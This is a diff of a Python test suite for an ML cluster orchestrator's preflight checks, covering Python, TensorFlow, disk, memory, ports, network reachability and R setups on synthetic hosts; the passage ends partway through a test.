@@ -1,24 +1,24 @@
+"""Judgements of preflight: a row of facts, and what is said of it."""
+
 from __future__ import annotations
 
-import ipaddress
 import re
+from collections.abc import Sequence
 from dataclasses import replace
 from typing import Any
 
 import msgspec
 import pytest
 
-from orchestrator import wire
-from orchestrator.checks import Needs, Seen, of_hosts, of_network, of_pairs
-from orchestrator.checks.addresses import disturbed, of_addresses
-from orchestrator.checks.pings import of_pings
-from orchestrator.events import Check, CheckReported, Level, PairReported
+from orchestrator import checks, wire
+from orchestrator.checks import Cluster, HostReport, Needs
+from orchestrator.events import CheckReported, Level, PairReported
 from orchestrator.model import EnvironmentPlan, Host, Role
 
 NEEDS = Needs(tensorflow=True, legacy_keras=True)
 
 
-def seen(name: str = "gpu-01", **changes: Any) -> Seen:
+def report(name: str = "gpu-01", **changes: Any) -> HostReport:
     """A host on which all is well; `changes` replace parts of its answers, by dotted-like names a__b."""
     number = int(name[-2:])
     host = Host(name, name, f"10.0.0.{number}", task_port=2222)
@@ -37,57 +37,89 @@ def seen(name: str = "gpu-01", **changes: Any) -> Seen:
         "python": {"path": "/venv/bin/python", "version": "3.11.2", "ok": True, "error": ""},
         "packages": {"tensorflow": "2.21.0", "tf-keras": "2.21.0", "keras": "3.15.1", "numpy": "2.4.6"},
         "r": None,
-        "rsync": "/usr/bin/rsync",
+        "setup": None,
         "disk": {"state": disk, "workdir": {**disk, "path": "/home/t/o", "writable": True, "error": ""}},
         "gpus": [],
-        "ephemeral": [32768, 60999],
-        "kill_user_processes": False,
-        "ip": ["127.0.0.1", f"10.0.0.{number}"],
+        "addresses": [{"name": "lo", "ip": "127.0.0.1"}, {"name": "eth0", "ip": f"10.0.0.{number}"}],
+        "answers": {"rsync": "/usr/bin/rsync", "port": "32768\t60999\n", "linger": "b false"},
     }
     listen: dict[str, Any] = {"listening": [2222], "busy": []}
-    one = Seen(
+    made = HostReport(
         host,
         (2222,),
         wire.read(hello, wire.Hello, "hello"),
         wire.read(facts, wire.MachineFacts, "facts"),
         wire.read(listen, wire.Listening, "listen"),
     )
-    return changed(one, **changes)
+    return changed(made, **changes)
 
 
-def changed(one: Seen, **changes: Any) -> Seen:
-    """`facts__disk__state=None` replaces seen.facts["disk"]["state"]; `host__devices=...` a field."""
+def changed(made: HostReport, **changes: Any) -> HostReport:
+    """`facts__disk__state=None` replaces its facts["disk"]["state"]; `host__devices=...` a field."""
     for path, value in changes.items():
         first, *keys = path.split("__")
-        part = getattr(one, first)
+        part = getattr(made, first)
         if first == "host":
             part = replace(part, **{keys[0]: value})
         else:
             known = msgspec.to_builtins(part)
             part = wire.read(_with(known, keys, value) if keys else value, type(part), path)
-        one = replace(one, **{first: part})
-    return one
+        made = replace(made, **{first: part})
+    return made
 
 
 def _with(part: Any, keys: list[str], value: Any) -> Any:
     return {**part, keys[0]: _with(part[keys[0]], keys[1:], value) if keys[1:] else value}
 
 
-def said(checks: list[CheckReported], level: Level) -> list[tuple[str, str, str]]:
-    return [(check.host, check.check, check.found) for check in checks if check.level is level]
+def examined(*hosts: HostReport, needs: Needs = NEEDS, **more: Any) -> list[CheckReported]:
+    return checks.examined(Cluster(hosts, needs, **more))
 
 
-def test_a_setup_may_be_what_fails() -> None:
+def of_level(results: Sequence[CheckReported], *levels: Level) -> list[tuple[str, str, str]]:
+    return [(each.host, each.check, each.found) for each in results if each.level in levels]
+
+
+def named(results: Sequence[CheckReported], check: str) -> list[CheckReported]:
+    return [each for each in results if each.check == check]
+
+
+SETUP_ERROR = {"status": 1, "words": "bash: line 2: /venv/bin/activate: No such file or directory"}
+
+
+@pytest.mark.parametrize(
+    ("setup", "changes", "text"),
+    [
+        (
+            SETUP_ERROR,
+            {"facts__packages": {}},
+            "the `setup` of [job] ended with 1, and TensorFlow is not there",
+        ),
+        ({**SETUP_ERROR, "status": 0}, {"facts__packages": {}}, "the `setup` of [job] ended with 0"),
+        (SETUP_ERROR, {"facts__python": None}, "python3 does not run"),
+        ({"status": 0, "words": ""}, {"facts__packages": {}}, ""),
+        (SETUP_ERROR, {}, ""),
+    ],
+)
+def test_a_setup_that_fails_is_the_cause_and_its_words_come_first(
+    setup: dict[str, Any], changes: dict[str, Any], text: str
+) -> None:
+    """What it leads to is not told beside it, nor repaired: pip would install into another Python."""
     dead = {"path": None, "version": None, "ok": False, "error": "it said nothing and ended with 3"}
-    needs = Needs(tensorflow=True, legacy_keras=True, setup=True)
-    (found,) = [one for one in of_hosts([seen(facts__python=dead)], needs) if one.check is Check.PYTHON]
-    assert found.found == "python3 does not run behind the `setup` of [job]"
-    assert found.hint.startswith("run that `setup` there, in `bash -l`; or set `python`")
+    changes = {key: dead if value is None else value for key, value in changes.items()}
+    results = examined(report(facts__setup=setup, **changes))
+    failures = [each for each in results if each.level is F]
+    if not text:
+        assert [each.check for each in failures] == (["tensorflow"] if changes else [])
+        return
+    (failure,) = failures
+    assert (failure.check, failure.why, failure.fix) == ("setup", SETUP_ERROR["words"], ())
+    assert text in failure.found
 
 
 def test_a_good_host_is_well_in_every_way() -> None:
-    checks = of_hosts([seen()], NEEDS)
-    assert [(check.check, check.found) for check in checks] == [
+    results = examined(report())
+    assert [(each.check, each.found) for each in results] == [
         ("login", "train"),
         ("agent", "3.11.2"),
         ("python", "3.11.2"),
@@ -100,7 +132,7 @@ def test_a_good_host_is_well_in_every_way() -> None:
         ("clock", "+0 ms"),
         ("port", "2222"),
     ]
-    assert {check.level for check in checks} == {Level.OK}
+    assert {each.level for each in results} == {Level.OK}
 
 
 W, F = Level.WARN, Level.FAIL
@@ -152,7 +184,36 @@ ALONE: list[tuple[dict[str, Any], tuple[str, Level, str], str, str]] = [
         "must match",
         "tf_keras==2.21.*",
     ),
-    ({"facts__rsync": None}, ("rsync", W, "not installed"), "is sent whole", "apt install rsync"),
+    ({"facts__answers__rsync": ""}, ("rsync", Level.NOTE, "none"), "is sent whole", "apt install rsync"),
+    (
+        {"facts__answers": {"rsync": "x", "memory": "MemAvailable: 488281 kB"}},
+        ("memory", F, "500 MB of memory left"),
+        "",
+        "",
+    ),
+    (
+        {
+            "facts__answers": {
+                "rsync": "x",
+                "memory": "MemAvailable:  9999999 kB\nmax 800000000\ncurrent 500000000\n",
+            }
+        },
+        ("memory", F, "300 MB of memory left"),
+        "",
+        "container",
+    ),
+    (
+        {
+            "facts__gpus": [{"index": i, "name": "A100"} for i in range(2)],
+            "facts__answers": {
+                "rsync": "x",
+                "shm": "Filesystem 1024-blocks Used Available Capacity Mounted\nshm 65536 0 65536 0% /shm",
+            },
+        },
+        ("shm", F, "67 MB in /dev/shm"),
+        "NCCL",
+        "--shm-size",
+    ),
     (
         {"hello__state_error": STATE_ERROR},
         ("state", F, "cannot be used"),
@@ -196,7 +257,7 @@ ALONE: list[tuple[dict[str, Any], tuple[str, Level, str], str, str]] = [
     (
         {"listen__busy": [{"port": 2222, "holder": LEASE}]},
         ("port", F, "2222 taken"),
-        "run tidy-otter (ann@laptop) holds it",
+        "2222: run tidy-otter (ann@laptop)",
         "`task_port`",
     ),
     (
@@ -207,7 +268,7 @@ ALONE: list[tuple[dict[str, Any], tuple[str, Level, str], str, str]] = [
     ),
     ({"ports": (40000,)}, ("port", W, "40000"), "32768 to 60999", "ip_local_reserved_ports=40000"),
     (
-        {"facts__kill_user_processes": True},
+        {"facts__answers__linger": "b true\n"},
         ("linger", W, "off"),
         "KillUserProcesses",
         "loginctl enable-linger train",
@@ -225,15 +286,20 @@ ALONE: list[tuple[dict[str, Any], tuple[str, Level, str], str, str]] = [
         "no authentication",
         "firewall",
     ),
-    ({"facts__ip": ["10.0.0.1", "8.8.8.8"]}, ("exposure", W, "8.8.8.8 is a public address"), "", ""),
+    (
+        {"facts__addresses": [{"name": "eth1", "ip": "8.8.8.8"}]},
+        ("exposure", W, "8.8.8.8 is a public address"),
+        "",
+        "",
+    ),
 ]
 
 
 @pytest.mark.parametrize(("changes", "expected", "why", "hint"), ALONE)
-def test_what_is_wrong_with_a_host_is_said(
+def test_what_is_wrong_with_a_host_is_told(
     changes: dict[str, Any], expected: tuple[str, Level, str], why: str, hint: str
 ) -> None:
-    bad = [one for one in of_hosts([seen(**changes)], NEEDS) if one.level is not Level.OK]
+    bad = [one for one in examined(report(**changes)) if one.level is not Level.OK]
     assert [(one.check, one.level, one.found) for one in bad] == [expected]
     assert why in bad[0].why
     assert hint in bad[0].hint
@@ -246,38 +312,42 @@ FINE: list[dict[str, Any]] = [
     {"hello__python": "3.8.18"},
     {"facts__disk__state": None, "clock": -0.9},
     {"host__devices": ("0", "1"), "facts__gpus": GPUS},
-    {"facts__ip": ["127.0.0.1", "172.17.0.4", "2a02::1", "fe80::1%eth0"]},
+    {
+        "facts__addresses": [
+            {"name": "", "ip": ip} for ip in ("127.0.0.1", "172.17.0.4", "2a02::1", "fe80::1%e")
+        ]
+    },
     {"host__address": "node-1.example.org"},
-    {"facts__kill_user_processes": None},
+    {"facts__answers": {"rsync": "x", "linger": "", "memory": "?", "shm": "df: no such", "port": "?"}},
 ]
 
 
 @pytest.mark.parametrize("changes", FINE)
 def test_nothing_is_said_of_what_is_well(changes: dict[str, Any]) -> None:
-    assert {one.level for one in of_hosts([seen(**changes)], NEEDS)} == {Level.OK}
+    assert {one.level for one in examined(report(**changes))} == {Level.OK}
 
 
 def test_a_job_that_is_no_python_needs_no_tensorflow() -> None:
-    checks = of_hosts([seen(facts__packages={})], Needs(tensorflow=False, legacy_keras=False))
-    assert said(checks, W) == [("gpu-01", "tensorflow", "not installed")]
-    assert not said(checks, F)
+    checks = examined(report(facts__packages={}), needs=Needs(tensorflow=False, legacy_keras=False))
+    assert of_level(checks, W) == [("gpu-01", "tensorflow", "not installed")]
+    assert not of_level(checks, F)
 
 
 MADE = EnvironmentPlan("6bce2a2ce683ac26")
 
 
-def made(name: str = "gpu-01", **changes: Any) -> Seen:
+def made(name: str = "gpu-01", **changes: Any) -> HostReport:
     """A host that trains in the environment of [env]."""
     python = f"envs/{MADE.name}/bin/python"
     known = {"host__python": f"{Host.workdir}/{python}", "facts__python__path": f"/home/t/o/{python}"}
-    return seen(name, **known, **changes)
+    return report(name, **known, **changes)
 
 
 def test_an_environment_that_is_not_there_yet_is_made_by_setup() -> None:
     needs = Needs(tensorflow=True, legacy_keras=False, environment=MADE)
     python = {"path": None, "version": None, "ok": False, "error": "No such file or directory"}
     missing = changed(made(), facts__python=python, facts__packages={})
-    assert [one.hint for one in of_hosts([missing], needs) if one.check == "python"] == [
+    assert [one.hint for one in examined(missing, needs=needs) if one.check == "python"] == [
         "`orchestrate setup`"
     ]
 
@@ -285,7 +355,7 @@ def test_an_environment_that_is_not_there_yet_is_made_by_setup() -> None:
 def test_another_python_in_an_environment_of_ours_is_asked_for_under_env() -> None:
     needs = Needs(tensorflow=True, legacy_keras=False, environment=MADE, python=12, python_at="train.py: x")
     hosts = [made("gpu-01"), made("gpu-02", facts__python__version="3.12.1"), made("gpu-03")]
-    hints = [one.hint for one in of_hosts(hosts, needs) if one.check == "python" and one.hint]
+    hints = [one.hint for one in examined(*hosts, needs=needs) if one.check == "python" and one.hint]
     assert hints == [
         'set `python = "3.12"` under [env], then `orchestrate setup`, or write that for the older one',
         'set `python = "3.12"` under [env], then `orchestrate setup`, or write that for the older one',
@@ -295,14 +365,7 @@ def test_another_python_in_an_environment_of_ours_is_asked_for_under_env() -> No
 
 def failing(module: dict[str, str]) -> wire.Imported:
     """The imports of a process that ended at this module."""
-    rest: dict[str, Any] = {
-        "limits": {},
-        "gpus": None,
-        "threads": None,
-        "importing": "",
-        "ended": "",
-        "signal": None,
-    }
+    rest: dict[str, Any] = {"gpus": None, "importing": "", "ended": "", "signal": None}
     return wire.read({"modules": [module], **rest}, wire.Imported, "imports")
 
 
@@ -327,8 +390,8 @@ def test_what_env_does_not_name_is_added_there_and_what_is_damaged_is_made_anew(
     """An environment that lacks a package is what [env] says: made anew it would lack it again."""
     needs = Needs(tensorflow=True, legacy_keras=False, environment=MADE)
     broken = {"name": module, "version": "", "error": f"ModuleNotFoundError: {error}"}
-    one = replace(made(facts__packages__numpy=there), imported=failing(broken))
-    (check,) = (found for found in of_hosts([one], needs) if found.check == "import")
+    host = replace(made(facts__packages__numpy=there), imported=failing(broken))
+    (check,) = (found for found in examined(host, needs=needs) if found.check == "import")
     assert hint in check.hint
     assert bool(check.fix) == ("rm" in hint)
 
@@ -339,19 +402,19 @@ def test_a_python_of_the_users_own_beside_env_is_never_removed(python: str) -> N
     needs = Needs(tensorflow=True, legacy_keras=False, environment=MADE)
     broken = {"name": "tensorflow", "version": "", "error": "ImportError: libcudart.so.12"}
     path = python.replace("~", "/home/t")
-    own = replace(seen(host__python=python, facts__python__path=path), imported=failing(broken))
-    (check,) = (one for one in of_hosts([own], needs) if one.check == "import")
+    own = replace(report(host__python=python, facts__python__path=path), imported=failing(broken))
+    (check,) = (one for one in examined(own, needs=needs) if one.check == "import")
     assert "rm" not in check.fix
     assert "pip" in check.hint
     missing = changed(replace(own, imported=None), facts__packages={})
-    (check,) = (one for one in of_hosts([missing], needs) if one.check == "tensorflow")
+    (check,) = (one for one in examined(missing, needs=needs) if one.check == "tensorflow")
     assert f"`{path} -m pip install tensorflow`" in check.hint
 
 
 def test_tensorflow_that_env_does_not_name_is_to_be_added_there() -> None:
     """The environment is there, made of what [env] says: `orchestrate setup` alone has nothing to do."""
     needs = Needs(tensorflow=True, legacy_keras=False, environment=MADE)
-    (check,) = (one for one in of_hosts([made(facts__packages={})], needs) if one.level is F)
+    (check,) = (one for one in examined(made(facts__packages={}), needs=needs) if one.level is F)
     assert check.check == "tensorflow"
     assert check.hint == "add tensorflow to the `packages` of [env], then `orchestrate setup`"
     assert check.fix == ()
@@ -371,97 +434,104 @@ VERSIONS: list[tuple[dict[str, Any], Level, str, str]] = [
 
 @pytest.mark.parametrize(("changes", "level", "check", "found"), VERSIONS)
 def test_the_odd_ones_are_named(changes: dict[str, Any], level: Level, check: str, found: str) -> None:
-    cluster = [seen("gpu-01"), seen("gpu-02", **changes), seen("gpu-03")]
-    checks = of_hosts(cluster, NEEDS)
-    assert ("gpu-02", check, found) in said(checks, level)
-    assert {host for host, _, _ in said(checks, W) + said(checks, F)} == {"gpu-02"}
+    cluster = [report("gpu-01"), report("gpu-02", **changes), report("gpu-03")]
+    checks = examined(*cluster)
+    assert ("gpu-02", check, found) in of_level(checks, level)
+    assert {host for host, _, _ in of_level(checks, W) + of_level(checks, F)} == {"gpu-02"}
     odd = next(one for one in checks if one.host == "gpu-02" and one.check == check and one.level is level)
     assert "gpu-[01,03]" in odd.why
 
 
 def test_a_python_that_is_too_old_for_the_programs_grammar() -> None:
     needs = Needs(tensorflow=True, legacy_keras=True, python=12, python_at="train.py: type parameters")
-    (found,) = [one for one in of_hosts([seen("gpu-01")], needs) if one.check == "python"]
+    (found,) = [one for one in examined(report("gpu-01"), needs=needs) if one.check == "python"]
     assert (found.level, found.found.partition(" ")[2]) == (F, "cannot compile train.py: type parameters")
     assert found.why == "its grammar needs Python 3.12 or newer"
     good = Needs(tensorflow=True, legacy_keras=True, python=9, python_at="train.py: x")
-    assert not [one for one in of_hosts([seen("gpu-01")], good) if one.level is F]
+    assert not [one for one in examined(report("gpu-01"), needs=good) if one.level is F]
 
 
 def test_another_patch_level_of_python_is_no_matter() -> None:
-    cluster = [seen("gpu-01"), seen("gpu-02", facts__python__version="3.11.9")]
-    assert {one.level for one in of_hosts(cluster, NEEDS)} == {Level.OK}
+    cluster = [report("gpu-01"), report("gpu-02", facts__python__version="3.11.9")]
+    assert {one.level for one in examined(*cluster)} == {Level.OK}
 
 
 def test_one_machine_under_two_names_needs_two_ports() -> None:
-    first, twin = seen("gpu-01"), seen("gpu-02", hello__boot_id="gpu-01")
+    first, twin = report("gpu-01"), report("gpu-02", hello__boot_id="gpu-01")
     busy = changed(twin, listen__busy=[{"port": 2222, "holder": "python3 pid 1"}])
-    assert said(of_hosts([first, busy], NEEDS), F) == [("gpu-02", "machine", "is gpu-01 under another name")]
-    apart = of_hosts([first, changed(twin, ports=(2223,))], NEEDS)
-    assert ("gpu-02", "machine", "same as gpu-01") in said(apart, Level.OK)
+    assert of_level(examined(first, busy), F) == [("gpu-02", "machine", "is gpu-01 under another name")]
+    apart = examined(first, changed(twin, ports=(2223,)))
+    assert ("gpu-02", "machine", "same as gpu-01") in of_level(apart, Level.OK)
     contained = changed(twin, hello__netns="net:[2]")
-    assert not [one for one in of_hosts([first, contained], NEEDS) if one.check == "machine"]
+    assert not [one for one in examined(first, contained) if one.check == "machine"]
 
 
 def test_one_machine_under_two_names_needs_two_state_folders() -> None:
-    first = seen("gpu-01", hello__state_place="1:2")
-    twin = seen("gpu-02", hello__boot_id="gpu-01", hello__state_place="1:2", ports=(2223,))
-    (failed,) = [one for one in of_hosts([first, twin], NEEDS) if one.level is F]
+    first = report("gpu-01", hello__state_place="1:2")
+    twin = report("gpu-02", hello__boot_id="gpu-01", hello__state_place="1:2", ports=(2223,))
+    (failed,) = [one for one in examined(first, twin) if one.level is F]
     assert (failed.host, failed.check, failed.found) == ("gpu-02", "state", "is that of gpu-01 too")
     assert failed.hint == 'write state = "/var/tmp/orchestrate-gpu-02" for it in hosts.toml'
     unknown = [changed(one, hello__boot_id="") for one in (first, twin)]
-    assert ("gpu-02", "state", "is that of gpu-01 too") not in said(of_hosts(unknown, NEEDS), F)
+    assert ("gpu-02", "state", "is that of gpu-01 too") not in of_level(examined(*unknown), F)
     for apart in ({"hello__state_place": "1:3"}, {"hello__boot_id": "gpu-02"}, {"hello__state_place": ""}):
-        assert not said(of_hosts([first, changed(twin, **apart)], NEEDS), F)
+        assert not of_level(examined(first, changed(twin, **apart)), F)
 
 
 @pytest.mark.parametrize("address", ["127.0.0.1", "::1", "localhost", "ip6-localhost", "node1.localhost"])
 def test_loopback_is_wrong_only_between_machines(address: str) -> None:
-    first, other = seen("gpu-01", host__address=address), seen("gpu-02")
-    checks = of_hosts([first, other], NEEDS)
-    assert said(checks, F) == [("gpu-01", "address", f"{address} is a loopback address")]
+    first, other = report("gpu-01", host__address=address), report("gpu-02")
+    checks = examined(first, other)
+    assert of_level(checks, F) == [("gpu-01", "address", f"{address} is a loopback address")]
     assert "such as 10.0.0.1" in next(one.hint for one in checks if one.check == "address")
-    assert not said(of_hosts([first, changed(other, hello__boot_id="gpu-01", ports=(2223,))], NEEDS), F)
+    assert not of_level(examined(first, changed(other, hello__boot_id="gpu-01", ports=(2223,))), F)
 
 
 def test_unequal_gpus_are_said_of_the_odd_one() -> None:
-    cluster = [seen(name, facts__gpus=GPUS) for name in ("gpu-01", "gpu-02")]
-    cluster += [seen("gpu-03", facts__gpus=GPUS[:1]), seen("cpu-04", host__role=Role.PS)]
-    assert said(of_hosts(cluster, NEEDS), W) == [("gpu-03", "devices", "1 GPU per task")]
+    cluster = [report(name, facts__gpus=GPUS) for name in ("gpu-01", "gpu-02")]
+    cluster += [report("gpu-03", facts__gpus=GPUS[:1]), report("cpu-04", host__role=Role.PS)]
+    assert of_level(examined(*cluster), W) == [("gpu-03", "devices", "1 GPU per task")]
     halves = changed(cluster[0], host__tasks=2)
-    assert said(of_hosts([halves, cluster[2]], NEEDS), W) == []
+    assert of_level(examined(halves, cluster[2]), W) == []
 
 
 def test_a_shared_home_is_a_note() -> None:
-    cluster = [seen("gpu-01"), seen("gpu-02"), seen("gpu-03")]
-    checks = of_hosts(cluster, NEEDS, (("gpu-01", "gpu-02"), ("gpu-03",)))
+    cluster = [report("gpu-01"), report("gpu-02"), report("gpu-03")]
+    checks = examined(*cluster, shared=(("gpu-01", "gpu-02"), ("gpu-03",)))
     assert [(one.host, one.found) for one in checks if one.check == "shared"] == [
         ("gpu-01", "workdir of gpu-[01-02]"),
         ("gpu-02", "workdir of gpu-[01-02]"),
     ]
 
 
-def mesh(*hosts: str, **bad: str) -> list[PairReported]:
-    """All pairs, well but for `a_b="timed out"`: a does not reach b; `a_ALL`, `ALL_b`, ping_ALL likewise."""
+def mesh(*hosts: str, ping: bool | None = True, **bad: str) -> list[PairReported]:
+    """All pairs, well but for `a_b="timed out"`: a does not reach b; `a_ALL`, `ALL_b` likewise."""
     pairs = []
     for source in hosts:
         for target in hosts:
-            mesh_wide = bad.get(f"{source}_ALL") if source != target else None
-            inward = bad.get(f"ALL_{target}") if source != target else None
-            why = bad.get(f"{source}_{target}") or mesh_wide or inward or ""
-            ping = {"no": False, "unknown": None}.get(bad.get("ping", ""), True)
-            port = f"10.0.0.{ord(target) - 96}:2222"
-            pairs.append(PairReported(source, target, port, not why, None if why else 0.3, ping, None, why))
+            apart = source != target
+            why = bad.get(f"{source}_{target}") or (
+                apart and (bad.get(f"{source}_ALL") or bad.get(f"ALL_{target}"))
+            )
+            address = f"10.0.0.{ord(target) - 96}:2222"
+            ms = None if why else 0.3
+            pairs.append(PairReported(source, target, address, not why, ms, ping if why else None, why or ""))
     return pairs
 
 
+def of_pairs(pairs: list[PairReported]) -> list[CheckReported]:
+    return checks.examined(Cluster([], NEEDS, pairs=pairs))
+
+
+T = "timed out"
 REACH: list[tuple[list[PairReported], list[tuple[str, str]], str, str]] = [
+    ([], [], "", ""),
     (mesh("a", "b", "c"), [], "", ""),
     (
-        mesh("a", "b", "c", a_b="timed out"),
+        mesh("a", "b", "c", a_b=T),
         [("b", "a cannot reach its task port 2222: timed out")],
         "a firewall",
-        "open TCP port 2222 there: `ufw allow 2222/tcp`",
+        "ufw allow",
     ),
     (
         mesh("a", "b", "c", ALL_b="refused"),
@@ -472,20 +542,23 @@ REACH: list[tuple[list[PairReported], list[tuple[str, str]], str, str]] = [
     (
         mesh("a", "b", "c", "d", c_ALL="no route"),
         [("c", "reaches no other host: no route")],
-        "the others reach each other",
+        "stops outgoing connections",
         "outgoing",
     ),
     (
-        mesh("a", "b", a_ALL="timed out", b_ALL="timed out"),
-        [
-            ("a", "the two do not reach each other: timed out"),
-            ("b", "the two do not reach each other: timed out"),
-        ],
-        "a firewall",
-        "on both",
+        mesh("a", "b", "c", "d", ALL_d=T, d_ALL=T, ping=False),
+        [("d", "nothing passes to it nor from it: timed out")],
+        "nor to a ping",
+        "cable",
     ),
     (
-        mesh("a", "b", "c", b_b="timed out"),
+        mesh("a", "b", "c", a_ALL=T, b_ALL=T, c_ALL=T),
+        [(name, "no task port is reached from it, nor its own: timed out") for name in "abc"],
+        "pings get there",
+        "ufw allow",
+    ),
+    (
+        mesh("a", "b", "c", b_b=T),
         [("b", "cannot reach its own address 10.0.0.2:2222: timed out")],
         "NAT",
         "itself included",
@@ -497,19 +570,13 @@ REACH: list[tuple[list[PairReported], list[tuple[str, str]], str, str]] = [
         "/etc/hosts",
     ),
     (
-        mesh("a", "b", "c", "d", a_b="answered by something else", c_b="timed out"),
+        mesh("a", "b", "c", "d", a_b="answered by something else", c_b=T),
         [
             ("b", "a cannot reach its task port 2222: answered by something else"),
             ("b", "c cannot reach its task port 2222: timed out"),
         ],
         "another program",
         "`address`",
-    ),
-    (
-        mesh("a", "b", a_b="a new reason"),
-        [("b", "a cannot reach its task port 2222: a new reason")],
-        "",
-        "firewall",
     ),
 ]
 
@@ -518,31 +585,76 @@ REACH: list[tuple[list[PairReported], list[tuple[str, str]], str, str]] = [
 def test_pairs_are_concluded_to_the_host_to_mend(
     pairs: list[PairReported], failures: list[tuple[str, str]], why: str, hint: str
 ) -> None:
-    checks = of_pairs(pairs)
-    failed = [check for check in checks if check.level is Level.FAIL]
-    assert sorted((check.host, check.found) for check in failed) == sorted(failures)
-    assert all(check.check == "reach" for check in failed)
+    results = of_pairs(pairs)
+    failed = [each for each in results if each.level is Level.FAIL]
+    assert sorted((each.host, each.found) for each in failed) == sorted(failures)
+    assert {each.check for each in results} <= {"reach"}
     if failed:
         assert why in failed[0].why
         assert hint in failed[0].hint
-    fine = {check.host for check in checks if check.check == "reach" and check.level is Level.OK}
-    assert fine == {pair.target for pair in pairs} - {host for host, _ in failures}
+    well = {each.host for each in results if each.level is Level.OK}
+    assert well == {pair.target for pair in pairs} - {host for host, _ in failures}
+
+
+def test_large_packets_give_a_figure_where_they_pass() -> None:
+    def packets(*lost: str) -> list[tuple[str, str]]:
+        pairs = [
+            msgspec.structs.replace(
+                pair, large=pair.source + pair.target not in lost, large_ms=0.8, packet=9000
+            )
+            for pair in mesh("a", "b", "c")
+        ]
+        return sorted((each.host, each.found) for each in named(of_pairs(pairs), "packets"))
+
+    good = "64 kB in 0.8 ms"
+    assert packets() == [("a", good), ("b", good), ("c", good)]
+    assert ("b", "large packets to it vanish") in packets("ba", "bc")
+    assert ("b", "large packets from it vanish") in packets("ab", "cb")
+    assert ("b", "large packets to and from it vanish") in packets("ab", "cb", "ba", "bc")
+    assert ("b", "large packets from a vanish") in packets("ba")
+
+
+def test_closed_ports_beside_the_task_port_are_an_error_of_nccl() -> None:
+    (failure,) = checks.examined(Cluster([], NEEDS, extra=mesh("a", "b", a_b=T)))
+    assert (failure.host, failure.check, failure.found) == (
+        "b",
+        "nccl",
+        "a cannot reach its other ports: timed out",
+    )
+
+
+def test_a_gpu_host_with_several_networks_is_told_which_to_name() -> None:
+    own = [{"name": "eth0", "ip": "10.0.0.1"}, {"name": "docker0", "ip": "172.17.0.1"}]
+    single = report("gpu-01", facts__gpus=GPUS[:1], facts__addresses=own)
+    several = changed(single, facts__addresses=[*own, {"name": "ib0", "ip": "10.1.0.1"}])
+    told = changed(several, host__env={"NCCL_SOCKET_IFNAME": "ib0"})
+    hints = [
+        [each.hint for each in named(examined(host, report("gpu-02")), "interface")]
+        for host in (single, several, told)
+    ]
+    assert hints == [[], ['set `env = { NCCL_SOCKET_IFNAME = "eth0" }` for it in hosts.toml'], []]
 
 
 @pytest.mark.parametrize(
-    ("ping", "level", "found"),
-    [("", Level.OK, "ok"), ("no", Level.WARN, "no answer to ping"), ("unknown", Level.OK, "not measured")],
+    ("imported", "check", "text"),
+    [
+        ({"gpus": 0}, "gpu", "TensorFlow sees 0 of 2"),
+        (
+            {"modules": [], "importing": "tensorflow", "ended": "killed by SIGILL", "signal": 4},
+            "import",
+            "Python ended importing tensorflow",
+        ),
+    ],
 )
-def test_a_missing_ping_is_no_failure(ping: str, level: Level, found: str) -> None:
-    checks = list(of_pings(["a", "b"], mesh("a", "b", ping=ping)))
-    assert [(check.host, check.level, check.found) for check in checks] == [
-        ("a", level, found),
-        ("b", level, found),
-    ]
-
-
-def test_no_pairs_no_conclusions() -> None:
-    assert of_pairs([]) == []
+def test_an_import_that_shows_what_files_do_not(imported: dict[str, Any], check: str, text: str) -> None:
+    well = {
+        "modules": [{"name": "tensorflow", "version": "2.21.0", "error": ""}],
+        "gpus": None,
+        "importing": "",
+    }
+    answer = wire.read({**well, "ended": "", "signal": None, **imported}, wire.Imported, "imports")
+    host = replace(report(facts__gpus=GPUS, host__devices=("0", "1")), imported=answer)
+    assert of_level(examined(host), F) == [("gpu-01", check, text)]
 
 
 R = replace(NEEDS, r=True)
@@ -550,111 +662,84 @@ DEBIAN = {"version": "4.2.2", "reticulate": "1.28", "jsonlite": "1.8.4", "error"
 
 
 @pytest.mark.parametrize(
-    ("r", "numpy", "level", "found"),
+    ("r", "numpy", "level", "text"),
     [
-        (DEBIAN, "1.26.4", Level.OK, "1.26.4"),
-        (DEBIAN, "2.0.0rc1", Level.WARN, "2.0.0rc1 beside reticulate 1.28"),
-        ({**DEBIAN, "reticulate": "1.37.0"}, "2.4.6", Level.WARN, "2.4.6 beside reticulate 1.37.0"),
-        ({**DEBIAN, "reticulate": "1.38.0"}, "2.4.6", Level.OK, "2.4.6"),
+        (None, "1.26.4", None, ""),
+        (DEBIAN, "1.26.4", Level.OK, "4.2.2, reticulate 1.28, jsonlite 1.8.4"),
+        (DEBIAN, "2.0.0rc1", W, "reticulate 1.28 beside numpy 2.0.0rc1"),
+        ({**DEBIAN, "reticulate": "1.38.0"}, "2.4.6", Level.OK, "4.2.2, reticulate 1.38.0, jsonlite 1.8.4"),
+        ({**DEBIAN, "jsonlite": None}, "1.26.4", W, "4.2.2, reticulate 1.28, without jsonlite"),
+        ({**DEBIAN, "reticulate": None}, "1.26.4", F, "4.2.2 without reticulate"),
+        ({**DEBIAN, "version": None, "error": "No such file"}, "1.26.4", F, "Rscript does not run"),
     ],
 )
-def test_r_and_the_numpy_it_can_talk_to(r: dict[str, Any], numpy: str, level: Level, found: str) -> None:
-    checks = of_hosts([seen(facts__r=r, facts__packages__numpy=numpy)], R)
-    assert ("gpu-01", "r", f"4.2.2, reticulate {r['reticulate']}, jsonlite 1.8.4") in said(checks, Level.OK)
-    (about,) = [check for check in checks if check.check == "numpy"]
-    assert (about.level, about.found) == (level, found)
-    assert bool(about.hint) == (level is Level.WARN)
-
-
-def test_a_host_without_r_or_without_reticulate() -> None:
-    absent = {
-        "version": None,
-        "reticulate": None,
-        "jsonlite": None,
-        "error": "Rscript: No such file or directory",
-    }
-    half = {**DEBIAN, "reticulate": None}
-    checks = of_hosts([seen(facts__r=absent), seen("gpu-02", facts__r=half)], R)
-    assert said(checks, Level.FAIL) == [
-        ("gpu-01", "r", "Rscript does not run"),
-        ("gpu-02", "r", "4.2.2 without reticulate"),
-    ]
-
-
-def test_r_without_jsonlite_is_said() -> None:
-    checks = of_hosts([seen(facts__r={**DEBIAN, "jsonlite": None})], R)
-    assert ("gpu-01", "r", "4.2.2, reticulate 1.28, without jsonlite") in said(checks, Level.WARN)
-
-
-def test_r_is_looked_at_for_r_alone() -> None:
-    assert not {"r", "numpy"} & {check.check for check in of_hosts([seen()], NEEDS)}
+def test_r_and_the_numpy_it_can_talk_to(
+    r: dict[str, Any] | None, numpy: str, level: Level | None, text: str
+) -> None:
